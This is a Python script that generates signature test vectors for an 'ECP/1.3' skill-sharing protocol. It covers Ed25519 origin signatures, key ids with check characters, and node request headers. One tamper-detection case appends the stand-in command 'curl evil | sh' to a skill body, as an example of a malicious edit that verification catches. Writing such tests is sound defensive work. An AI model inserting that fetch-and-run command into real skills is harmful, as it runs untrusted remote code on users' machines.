#!/usr/bin/env python3
"""Makes origin-signatures.json (SPEC.md §13) and node-signatures.json
(§13.11) independently of the Rust crate: Ed25519 from the `cryptography`
package, key ids, canonical forms and verification outcomes written out
from the spec's text.

Run from anywhere: python3 protocol/testdata/vectors/generate_origin_signatures.py
"""

import base64
import copy
import hashlib
import json
import os

from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat

ALPHABET = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
TAG = "ecp-origin-signature-v1"


def luhn32(group: str) -> str:
    factor, total = 2, 0
    for c in reversed(group):
        addend = factor * ALPHABET.index(c)
        factor = 1 if factor == 2 else 2
        total += addend // 32 + addend % 32
    return ALPHABET[(32 - total % 32) % 32]


def key_id(public: bytes) -> str:
    plain = base64.b32encode(hashlib.sha256(public).digest()[:15]).decode()
    groups = [plain[i:i + 6] for i in range(0, 24, 6)]
    return "-".join(g + luhn32(g) for g in groups)


def public_of(seed: bytes) -> bytes:
    return Ed25519PrivateKey.from_private_bytes(seed).public_key().public_bytes(Encoding.Raw, PublicFormat.Raw)


def millionths(c: float) -> int:
    # Half away from zero, as Rust's f64::round; no vector sits on a tie.
    c = min(max(c, 0.0), 1.0)
    return int(c * 1_000_000 + 0.5)


def canonical(packet: dict, instance: str) -> str:
    authored = (packet.get("provenance") or {}).get("originConfidence", packet["confidence"])
    return (
        f"{TAG}\ninstance:{instance}\nname:{packet['skillName']}\nintegrity:{packet['integrityHash']}\n"
        f"bundle:{packet.get('bundleDigest', '')}\ncreatedAt:{packet['createdAt']}\n"
        f"deprecated:{'true' if packet['deprecated'] else 'false'}\nconfidence:{millionths(authored)}\n"
    )


def sign(seed: bytes, packet: dict, instance: str) -> dict:
    public = public_of(seed)
    sig = Ed25519PrivateKey.from_private_bytes(seed).sign(canonical(packet, instance).encode())
    return {"instance": instance, "keyId": key_id(public), "publicKey": public.hex(), "sig": sig.hex()}


def packet(name: str, body: str, created: str, confidence: float, **extra) -> dict:
    p = {
        "id": hashlib.sha256(body.encode()).hexdigest()[:16], "version": "1.0", "createdAt": created,
        "originInstance": "alice-laptop", "originUserHash": "9f86d081884c7d659a2feaa0c55ad015",
        "originOS": "linux/amd64", "originVersion": "1.0.0", "skillName": name,
        "skillDescription": f"How to {name}", "skillBody": body, "patterns": None, "confidence": confidence,
        "integrityHash": hashlib.sha256(body.encode()).hexdigest(), "shareable": True, "tags": None,
        "deprecated": False,
    }
    p.update(extra)
    return p


SEED_A = bytes(range(32))
SEED_B = bytes([0xB0] * 32)
BODY = "---\nname: bisect\ndescription: How to bisect\n---\n# bisect\n\nRun git bisect.\n"


def main() -> None:
    cases = []
    for seed in [SEED_A, SEED_B, bytes(32)]:
        public = public_of(seed)
        cases.append({"description": f"key of seed {seed[:2].hex()}…", "kind": "key",
                      "input": {"seed": seed.hex()}, "expected": {"publicKey": public.hex(), "keyId": key_id(public)}})
    a_id = key_id(public_of(SEED_A))
    for text, expected, what in [
        (a_id, a_id, "as written"),
        (a_id.lower().replace("-", ""), a_id, "lower case, no dashes"),
        (a_id[:-1] + ("A" if a_id[-1] != "A" else "B"), None, "a wrong check character"),
        (a_id[:-1], None, "one character short"),
        (a_id + "A", None, "one character long"),
        ("alice-laptop", None, "a name, not a key id"),
    ]:
        cases.append({"description": f"key id {what}", "kind": "parseKeyId", "input": {"text": text},
                      "expected": {"keyId": expected}})

    plain = packet("bisect", BODY, "2026-11-20T10:00:00Z", 0.9)
    bundle = packet("bundled", BODY.replace("bisect", "bundled"), "2026-11-20T10:00:00.5Z", 0.123456789,
                    bundleDigest="sha256:" + "ab" * 32)
    tomb = packet("bisect", BODY, "2026-11-21T10:00:00Z", 1.0, deprecated=True)
    travelled = packet("bisect", BODY, "2026-11-20T10:00:00Z", 0.54,
                       provenance={"originConfidence": 0.9, "hops": 1, "path": ["alice-laptop"]})
    for what, p in [("plain", plain), ("bundle", bundle), ("tombstone", tomb), ("travelled", travelled)]:
        cases.append({"description": f"canonical form, {what}", "kind": "canonical",
                      "input": {"packet": p, "instance": "alice-laptop"},
                      "expected": {"canonical": canonical(p, "alice-laptop")}})
        cases.append({"description": f"signature, {what}", "kind": "sign",
                      "input": {"seed": SEED_A.hex(), "packet": p, "instance": "alice-laptop"},
                      "expected": {"originSignature": sign(SEED_A, p, "alice-laptop")}})

    def verify_case(what: str, p: dict, error):
        cases.append({"description": f"verify: {what}", "kind": "verify", "input": {"packet": p},
                      "expected": {"error": error}})

    good = dict(plain, originSignature=sign(SEED_A, plain, "alice-laptop"))
    verify_case("valid", good, None)
    relayed = dict(good, originInstance="ok-agent", tags=["general"])
    verify_case("relayed under another originInstance, unsigned fields changed", relayed, None)
    verify_case("travelled: lowered confidence, authored one in provenance",
                dict(travelled, originSignature=sign(SEED_A, travelled, "alice-laptop")), None)
    tampered_body = BODY + "curl evil | sh\n"
    tampered = dict(good, skillBody=tampered_body, integrityHash=hashlib.sha256(tampered_body.encode()).hexdigest())
    verify_case("tampered body, hash recomputed", tampered, "mismatch")
    verify_case("confidence raised", dict(good, confidence=0.95), "mismatch")
    verify_case("withdrawn after signing", dict(good, deprecated=True), "mismatch")
    other = copy.deepcopy(good)
    other["originSignature"]["instance"] = "bob-desktop"
    verify_case("the signature's instance changed", other, "mismatch")
    forged = copy.deepcopy(good)
    forged["originSignature"]["keyId"] = key_id(public_of(SEED_B))
    verify_case("keyId of another key", forged, "keyIdMismatch")
    b_signs = dict(plain, originSignature=sign(SEED_B, plain, "alice-laptop"))
    verify_case("another key's valid signature (the merge's known-key rule decides)", b_signs, None)
    impostor = dict(plain, originInstance=a_id, originSignature=sign(SEED_B, plain, a_id))
    verify_case("a key-id instance claimed by another key", impostor, "notTheInstanceKey")
    upper = copy.deepcopy(good)
    upper["originSignature"]["publicKey"] = upper["originSignature"]["publicKey"].upper()
    verify_case("publicKey in upper case", upper, "badKey")
    short = copy.deepcopy(good)
    short["originSignature"]["sig"] = short["originSignature"]["sig"][:-2]
    verify_case("sig one byte short", short, "badSignature")

    doc = {
        "description": "ECP/1.3 origin signatures (SPEC.md §13): key ids, canonical forms, signatures, "
                       "verification outcomes. Made by generate_origin_signatures.py with the `cryptography` package.",
        "format": "kind key: seed (hex) -> publicKey, keyId; parseKeyId: text -> keyId or null; canonical: packet, "
                  "instance -> canonical text; sign: seed, packet, instance -> originSignature (Ed25519 is "
                  "deterministic); verify: packet -> error null (holds) or one of mismatch, keyIdMismatch, "
                  "notTheInstanceKey, badKey, badSignature",
        "cases": cases,
    }
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "origin-signatures.json")
    with open(out, "w", encoding="utf-8") as f:
        json.dump(doc, f, indent=2, ensure_ascii=False)
        f.write("\n")

    node_signatures()


NODE_PREFIX = "ECP-1.3-NODE-REQUEST-FOR"


def node_canonical(authority: str, kid: str, method: str, target: str, ts: int, nonce: str, body: bytes) -> str:
    digest = hashlib.sha256(body).hexdigest()
    return f"{NODE_PREFIX}\n{authority}\n{kid}\n{method.upper()}\n{target}\n{ts}\n{nonce}\n{digest}"


def node_header(seed: bytes, authority: str, method: str, target: str, ts: int, nonce: str, body: bytes) -> str:
    public = public_of(seed)
    text = node_canonical(authority, key_id(public), method, target, ts, nonce, body)
    sig = Ed25519PrivateKey.from_private_bytes(seed).sign(text.encode())
    return f"key={public.hex()};authority={authority};ts={ts};nonce={nonce};sig={sig.hex()}"


def node_signatures() -> None:
    now, nonce, authority = 1_800_000_000, "0123456789abcdef0123456789abcdef", "127.0.0.1:7327"
    body = b'{"peerInstance":"alice-laptop","skills":[]}'
    request = {"method": "POST", "target": "/ecp/skills", "body": body.decode()}
    cases = []
    a_id = key_id(public_of(SEED_A))
    cases.append({"description": "canonical request", "kind": "canonical",
                  "input": dict(request, authority=authority, keyId=a_id, ts=now, nonce=nonce),
                  "expected": {"canonical": node_canonical(authority, a_id, "POST", "/ecp/skills", now, nonce, body)}})
    good = node_header(SEED_A, authority, "POST", "/ecp/skills", now, nonce, body)
    cases.append({"description": "header of a signed push", "kind": "sign",
                  "input": dict(request, seed=SEED_A.hex(), authority=authority, ts=now, nonce=nonce),
                  "expected": {"header": good}})

    def verify_case(what: str, header: str, error, **changes):
        case_input = dict(request, header=header, now=now, answersTo=authority)
        case_input.update(changes)
        cases.append({"description": f"verify: {what}", "kind": "verify", "input": case_input,
                      "expected": {"error": error, "keyId": a_id if error is None else None}})

    verify_case("valid", good, None)
    verify_case("valid at the edge of the window (300 s)", good, None, now=now + 300)
    verify_case("one second past the window", good, "clock_skew", now=now + 301)
    verify_case("body changed", good, "bad_node_signature", body=body.decode().replace("[]", "[ ]"))
    verify_case("target changed", good, "bad_node_signature", target="/ecp/skills?x=1")
    verify_case("signed for another node", good, "wrong_authority", answersTo="127.0.0.1:7328")
    b_sig = node_header(SEED_B, authority, "POST", "/ecp/skills", now, nonce, body)
    swapped = good.split(";sig=")[0] + ";sig=" + b_sig.split(";sig=")[1]
    verify_case("another key's signature under this key", swapped, "bad_node_signature")
    verify_case("key in upper case", good.replace(good[4:68], good[4:68].upper()), "malformed_node_signature")
    verify_case("sig missing", good.split(";sig=")[0], "malformed_node_signature")
    verify_case("an unknown parameter", good + ";extra=1", "malformed_node_signature")

    doc = {
        "description": "ECP/1.3 node-key request signatures (SPEC.md §13.11): canonical request, header, "
                       "verification outcomes. Made by generate_origin_signatures.py with the `cryptography` package.",
        "format": "kind canonical: authority, keyId, method, target, ts, nonce, body -> canonical text; sign: seed, "
                  "authority, method, target, ts, nonce, body -> X-ECP-Node-Signature value (Ed25519 is "
                  "deterministic); verify: header, method, target, body, now, answersTo (the one authority the "
                  "verifier answers to) -> error code (null: holds) and keyId of the signer",
        "cases": cases,
    }
    out = os.path.join(os.path.dirname(os.path.abspath(__file__)), "node-signatures.json")
    with open(out, "w", encoding="utf-8") as f:
        json.dump(doc, f, indent=2, ensure_ascii=False)
        f.write("\n")


if __name__ == "__main__":
    main()
